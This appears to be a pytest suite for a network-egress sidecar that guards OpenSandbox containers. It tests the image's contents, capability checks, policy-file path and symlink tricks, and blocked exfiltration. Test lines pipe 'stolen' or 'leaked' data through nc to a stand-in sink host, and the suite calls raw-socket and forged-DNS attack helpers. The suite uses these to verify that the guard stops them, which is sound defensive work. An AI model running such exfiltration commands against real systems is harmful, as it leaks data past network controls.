"""The container image under a real engine, with Docker's default capabilities for the sandbox: CAP_NET_RAW is among them."""

from __future__ import annotations

import functools
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.accomplice import FORGERIES, Forgery, accomplice
from lab.engine import INSIDE4, MACHINE, SANDGATE, Engine, engine_with_images
from lab.guarded import (
    ADDRESS,
    ADDRESS6,
    DIRECTLY,
    WITH_ATTACKS,
    Guarded,
    ask_dockers_resolver,
    attack_with_raw_sockets,
    pinned,
    reaches,
    user_defined_network,
)
from lab.internet import Internet
from lab.processes import check, status_of, wait_until
from lab.sandgate import REPOSITORY, allowing
from lab.tool import binary

MAXIMUM_SIZE = 60_000_000
READ_ONLY = ("--read-only", "--tmpfs", "/var/log/sandgate")
TO_SINK = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")


@pytest.fixture(scope="module")
def docker(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    with engine_with_images(net, tmp_path_factory.mktemp("engine"), plan.DNS4) as made:
        yield made


@pytest.fixture
def guarded(internet: Internet, docker: Engine) -> Iterator[Guarded]:
    made = Guarded(internet, docker, allowing(plan.ALLOWED), *READ_ONLY, "--publish", "44772")
    try:
        yield made
    finally:
        made.remove()


def test_image_is_small(docker: Engine) -> None:
    if "libswiftCore.so" in subprocess.run(["ldd", binary()], capture_output=True, text=True).stdout:
        pytest.skip("the program needs the Swift runtime of this machine")
    assert int(docker.docker("image", "inspect", "--format", "{{.Size}}", SANDGATE)) < MAXIMUM_SIZE


def test_image_holds_little(docker: Engine, tmp_path: Path) -> None:
    """One program and its libraries: no shell, and nothing where OpenSandbox's server mounts what a sandbox writes."""
    container = docker.docker("create", SANDGATE)
    docker.docker("export", "--output", str(tmp_path / "image.tar"), container)
    docker.docker("rm", container)
    with tarfile.open(tmp_path / "image.tar") as files:
        members = {member.name.lstrip("./"): member for member in files}
    # The engine adds empty files to what it exports.
    programs = {name for name, member in members.items() if member.isfile() and member.size and member.mode & 0o111}
    libraries = {name for name in programs if name.startswith(("lib/", "lib64/", "usr/lib/"))}
    assert programs - libraries == {"usr/bin/sandgate"}
    assert not [name for name in members if name.rpartition("/")[2] in ("sh", "bash", "dash", "busybox")]
    assert not [name for name in members if name.startswith("opt")]


def test_dockerfile_makes_the_same_image(docker: Engine, tmp_path: Path) -> None:
    """Less its first stage, whose image needs a registry: here the script that it runs is run outside."""
    check(REPOSITORY / "deploy/build-image", "--binary", binary(), "--output", tmp_path / "image.tar")
    _, final = (REPOSITORY / "deploy/Dockerfile").read_text().split("\nFROM scratch\n")
    first = "FROM scratch AS build\nADD image.tar /image/\n"
    (tmp_path / "Dockerfile").write_text(f"{first}FROM scratch\n{final}")
    docker.docker("build", "--tag", "sandgate:built", str(tmp_path), timeout=120)
    for field in ("Entrypoint", "Cmd", "ExposedPorts", "Healthcheck", "Labels", "User"):
        template = f"{{{{json .Config.{field}}}}}"
        built, local = (
            docker.docker("image", "inspect", "--format", template, name) for name in ("sandgate:built", SANDGATE)
        )
        assert built == local, field
    assert docker.docker("run", "--rm", "sandgate:built", "--help").startswith("OVERVIEW: Guard the network")


def test_sandbox_is_guarded(internet: Internet, docker: Engine, guarded: Guarded) -> None:
    free = docker.start()
    assert reaches(docker, free, plan.DENIED) and reaches(docker, free, plan.DENIED, "-6")
    assert docker.run(free, *TO_SINK).returncode == 0 and "stolen" in internet.sinks.data(), "without a sidecar"
    docker.docker("rm", "--force", free)
    internet.forget()
    sandbox = guarded.sandbox()
    assert reaches(docker, sandbox, plan.ALLOWED) and reaches(docker, sandbox, plan.ALLOWED, "-6"), guarded.log
    assert not reaches(docker, sandbox, plan.DENIED)
    assert not reaches(docker, sandbox, plan.DENIED, *pinned(plan.DENIED, plan.DENIED4))
    assert not reaches(docker, sandbox, plan.DENIED, *pinned(plan.DENIED, f"[{plan.DENIED6}]"))
    assert docker.run(sandbox, *TO_SINK).returncode != 0
    assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
    assert '"event":"dns.denied"' in guarded.log and f'"host":"{plan.DENIED}"' in guarded.log


def test_policy_is_changed_from_outside_alone(docker: Engine, guarded: Guarded) -> None:
    sandbox = guarded.sandbox()
    change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.OTHER}"}}]')
    url = "http://127.0.0.1:18080/policy"
    assert "forbidden" in docker.run(sandbox, "/usr/bin/curl", "-sS", "-m", "4", *change, url).stdout
    assert not reaches(docker, sandbox, plan.OTHER)
    assert '"status":"ok"' in guarded.ask("/policy", *change)
    assert reaches(docker, sandbox, plan.OTHER)


def test_image_that_lets_the_inside_only_read(internet: Internet, docker: Engine) -> None:
    """As the page on OpenSandbox says that it is made: the token that passes through the sandbox changes nothing there."""
    docker.build("sandgate:read-only", f"FROM {SANDGATE}", "ENV SANDGATE_READ_ONLY_FROM_INSIDE=true")
    token = ("--env", "OPENSANDBOX_EGRESS_TOKEN=known")
    made = Guarded(internet, docker, allowing(plan.ALLOWED), *token, image="sandgate:read-only")
    try:
        header = ("-H", "OPENSANDBOX-EGRESS-AUTH: known")
        change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.OTHER}"}}]', *header)
        ask = ("/usr/bin/curl", "-sS", "-m", "4", "http://127.0.0.1:18080/policy")
        sandbox = made.sandbox()
        assert '"status":"ok"' in docker.run(sandbox, *ask, *header).stdout
        assert "can only be read" in docker.run(sandbox, *ask, *change).stdout
        assert '"status":"ok"' in made.ask("/policy", *change)
        assert reaches(docker, sandbox, plan.OTHER)
    finally:
        made.remove()


def refuses_to_start(docker: Engine, image: str, options: tuple[str, ...], words: str) -> None:
    """A container of an image ends by itself, and says why."""
    container = docker.docker("run", "--detach", *options, image)
    assert docker.docker("wait", container) != "0" and words in docker.logs(container), docker.logs(container)
    docker.docker("rm", container)


NONROOT = "sandgate:nonroot"
"""The image with another user than root, as the page on OpenSandbox says that it is made."""


@pytest.fixture(scope="module")
def nonroot(docker: Engine) -> str:
    docker.build(NONROOT, f"FROM {SANDGATE}", "USER 65532:65532")
    return NONROOT


def test_image_of_another_user_than_root(internet: Internet, docker: Engine, nonroot: str) -> None:
    """It is held as the one of root is, and holds no more than CAP_NET_ADMIN."""
    file = "OPENSANDBOX_EGRESS_POLICY_FILE=/tmp/policy.json"
    made = Guarded(internet, docker, allowing(plan.ALLOWED), "--health-interval", "1s", "--env", file, image=nonroot)
    try:
        status = status_of(int(docker.inspect(made.sidecar, "{{.State.Pid}}")))
        assert status["Uid"].split() == ["65532"] * 4 and status["Gid"].split() == ["65532"] * 4
        for name in ("CapPrm", "CapEff", "CapInh", "CapAmb"):
            assert int(status[name], 16) & ~(1 << 12) == 0, status
        sandbox = made.sandbox(*WITH_ATTACKS, image=MACHINE)
        assert reaches(docker, sandbox, plan.ALLOWED) and reaches(docker, sandbox, plan.ALLOWED, "-6"), made.log
        assert not reaches(docker, sandbox, plan.DENIED)
        assert not reaches(docker, sandbox, plan.DENIED, *pinned(plan.DENIED, plan.DENIED4))
        attack_with_raw_sockets(docker, sandbox)
        # It is not by their user that the sidecar's sockets are known.
        assert docker.run(sandbox, "/usr/bin/setpriv", "--reuid=65532", "--clear-groups", *TO_SINK).returncode != 0
        assert internet.sinks.data() == ""
        change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.OTHER}"}}]')
        assert '"status":"ok"' in made.ask("/policy", *change) and reaches(docker, sandbox, plan.OTHER)
        wait_until(lambda: docker.inspect(made.sidecar, "{{.State.Health.Status}}") == "healthy", "its health", 20)
        # The trail and the policy are its own to write: what was changed is there when it begins anew.
        docker.docker("restart", "--time", "10", made.sidecar)
        made.wait()
        assert plan.OTHER in made.ask("/policy")
    finally:
        made.remove()


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ((), "missing CAP_NET_ADMIN: this network cannot be guarded without"),
        (("--cap-add", "NET_ADMIN", "--cap-drop", "NET_RAW"), "missing CAP_NET_RAW"),
        (("--cap-add", "NET_ADMIN", "--security-opt", "no-new-privileges"), "missing CAP_NET_ADMIN, CAP_NET_RAW"),
    ],
)
def test_another_user_than_root_is_refused(
    docker: Engine, nonroot: str, options: tuple[str, ...], words: str
) -> None:
    refuses_to_start(docker, nonroot, options, words)


def test_published_port_is_reached(internet: Internet, docker: Engine, guarded: Guarded) -> None:
    sandbox = guarded.sandbox()
    docker.docker("exec", "--detach", sandbox, "/bin/sh", "-c", "echo served inside | nc -l -p 44772")
    port = docker.docker("port", guarded.sidecar, "44772/tcp").splitlines()[0].rpartition(":")[2]
    fetch = internet.namespace.command("/bin/busybox", "nc", "-w", "2", INSIDE4, port)

    def fetched() -> str:
        return subprocess.run(fetch, stdin=subprocess.DEVNULL, capture_output=True, text=True).stdout

    wait_until(lambda: "served inside" in fetched(), "the sandbox's server")


@pytest.mark.parametrize("number", ["TERM", "KILL"])
def test_nothing_passes_when_it_ends(internet: Internet, docker: Engine, guarded: Guarded, number: str) -> None:
    """The sandbox keeps the network, and its rules; what it sends all the while arrives nowhere."""
    sandbox = guarded.sandbox()
    assert reaches(docker, sandbox, plan.ALLOWED)
    internet.forget()
    flood = f"while true; do echo leaked | nc -u -w 1 {plan.SINK4} 4444; echo leaked | nc -w 1 {plan.SINK4} 4444; done"
    docker.docker("exec", "--detach", sandbox, "/bin/sh", "-c", flood)
    docker.docker("kill", "--signal", number, guarded.sidecar)
    wait_until(lambda: not guarded.runs(), "its end", 20)
    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY) and not reaches(docker, sandbox, plan.ALLOWED)
    # Another container has the network by now that it had; the sandbox stays where it is.
    docker.docker("start", guarded.sidecar)
    guarded.wait()
    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY)
    assert internet.sinks.data() == "" and internet.web.requests() == []
    docker.docker("restart", "--time", "0", sandbox)
    assert reaches(docker, sandbox, plan.ALLOWED) and not reaches(docker, sandbox, plan.DENIED)


def test_paused(internet: Internet, docker: Engine, guarded: Guarded) -> None:
    sandbox = guarded.sandbox()
    assert reaches(docker, sandbox, plan.ALLOWED)
    internet.forget()
    docker.docker("pause", guarded.sidecar)
    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY) and not reaches(docker, sandbox, plan.ALLOWED)
    assert internet.web.requests() == []
    docker.docker("unpause", guarded.sidecar)
    assert reaches(docker, sandbox, plan.ALLOWED) and not reaches(docker, sandbox, plan.DENIED)


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ((), "missing CAP_NET_ADMIN: this network cannot be guarded without"),
        (("--cap-add", "NET_ADMIN", "--cap-drop", "NET_RAW"), "missing CAP_NET_RAW"),
        (("--cap-add", "NET_ADMIN", "--network", "host"), "this is a machine's network, not a sandbox's"),
    ],
)
def test_refuses_to_start(docker: Engine, options: tuple[str, ...], words: str) -> None:
    refuses_to_start(docker, SANDGATE, options, words)


@pytest.mark.parametrize(
    "file",
    [
        "/opt/opensandbox/policy",
        "//opt//opensandbox/policy",
        "/./opt/opensandbox/policy",
        "/proc/self/root/opt/opensandbox/policy",
    ],
)
def test_policy_file_that_the_sandbox_writes(docker: Engine, file: str) -> None:
    """Where OpenSandbox's server mounts a volume into both: nothing there is believed, whatever way the path takes."""
    refuses_policy_file(docker, file)


@pytest.mark.parametrize("file", ["file", "directory/policy", "chain/policy"])
def test_policy_file_behind_a_link(docker: Engine, tmp_path: Path, file: str) -> None:
    """The same, where a link leads there."""
    (tmp_path / "file").symlink_to("/opt/opensandbox/policy")
    (tmp_path / "directory").symlink_to("/opt/opensandbox")
    (tmp_path / "chain").symlink_to("directory/../opensandbox")
    volumes = ("--volume", f"{tmp_path}:/links:ro", "--volume", "/opt/opensandbox")
    refuses_policy_file(docker, f"/links/{file}", *volumes)


def refuses_policy_file(docker: Engine, file: str, *options: str) -> None:
    given = ("--cap-add", "NET_ADMIN", "--env", f"OPENSANDBOX_EGRESS_POLICY_FILE={file}", *options)
    container = docker.docker("run", "--detach", *given, SANDGATE)
    try:
        wait_until(lambda: docker.inspect(container, "{{.State.Running}}") == "false", "its end", 6)
        assert "to a place that the sandbox cannot write" in docker.logs(container)
    finally:
        docker.docker("rm", "--force", "--volumes", container)


def test_health_check(internet: Internet, docker: Engine) -> None:
    made = Guarded(internet, docker, allowing(plan.ALLOWED), "--health-interval", "1s")
    try:
        wait_until(lambda: docker.inspect(made.sidecar, "{{.State.Health.Status}}") == "healthy", "its health", 20)
    finally:
        made.remove()


def test_attacks_with_raw_sockets(internet: Internet, docker: Engine, guarded: Guarded) -> None:
    free = docker.start(*WITH_ATTACKS, image=MACHINE)
    attack_with_raw_sockets(docker, free)
    arrived = internet.sinks.data()
    assert "stolen by a frame" in arrived and "stolen by a mark" in arrived, "without a sidecar"
    docker.docker("rm", "--force", free)
    sandbox = guarded.sandbox(*WITH_ATTACKS, image=MACHINE)
    attack_with_raw_sockets(docker, sandbox)
    assert internet.sinks.data() == ""
    assert reaches(docker, sandbox, plan.ALLOWED)


@pytest.mark.attack(
    "T14",
    "answers the sidecar's query in the nameserver's name, with the right port, identifier and case, in a container that has "
    "CAP_NET_RAW",
    stopped_by="kernel",
)
@pytest.mark.parametrize("forgery", FORGERIES, ids=str)
def test_forged_answer(internet: Internet, docker: Engine, forgery: Forgery) -> None:
    """The nameserver outside is an accomplice's, and tells all that is random in a query."""

    def ask(name: str, container: str, holder: str) -> str:
        address = docker.inspect(holder, ADDRESS6 if forgery.is_ipv6 else ADDRESS)
        begin, run = functools.partial(docker.begin, container), functools.partial(docker.run, container)
        return partner.asked_under_forgery(forgery, name, address, begin, run, "/attacks/shared_namespace.py")

    with accomplice(internet, forgery.server) as partner:
        free = docker.start(*WITH_ATTACKS, image=MACHINE)
        assert forgery.forged in ask(f"first.{plan.WILD}", free, free), "without a sidecar"
        docker.remove(free)
        server = f"OPENSANDBOX_EGRESS_DNS_UPSTREAM={forgery.server}"
        guarded = Guarded(internet, docker, allowing(f"*.{plan.WILD}"), "--env", server)
        try:
            sandbox = guarded.sandbox(*WITH_ATTACKS, image=MACHINE)
            output = ask(f"second.{plan.WILD}", sandbox, guarded.sidecar)
            assert forgery.forged not in output and forgery.honest in output, output
        finally:
            guarded.remove()


@pytest.mark.attack(
    "D2 T14",
    "asks Docker's own resolver in a user-defined network that it shares with its guard",
    stopped_by="kernel",
)
def test_dockers_resolver_is_out_of_reach(internet: Internet, docker: Engine) -> None:
    with user_defined_network(docker) as network:
        free = docker.start("--network", network, *WITH_ATTACKS, image=MACHINE)
        answered = ask_dockers_resolver(docker, free, free, "neighbour")
        docker.docker("rm", "--force", free)
        assert {"tcp-0", "udp-0-from-0.0.0.0", "raw-0"} <= answered.keys(), answered
        server = f"OPENSANDBOX_EGRESS_DNS_UPSTREAM={plan.DNS4}"
        guarded = Guarded(internet, docker, allowing(plan.ALLOWED), "--network", network, "--env", server)
        try:
            sandbox = guarded.sandbox(*WITH_ATTACKS, image=MACHINE)
            assert ask_dockers_resolver(docker, sandbox, guarded.sidecar, "neighbour") == {}
            assert reaches(docker, sandbox, plan.ALLOWED) and not reaches(docker, sandbox, plan.DENIED)
        finally:
            guarded.remove()
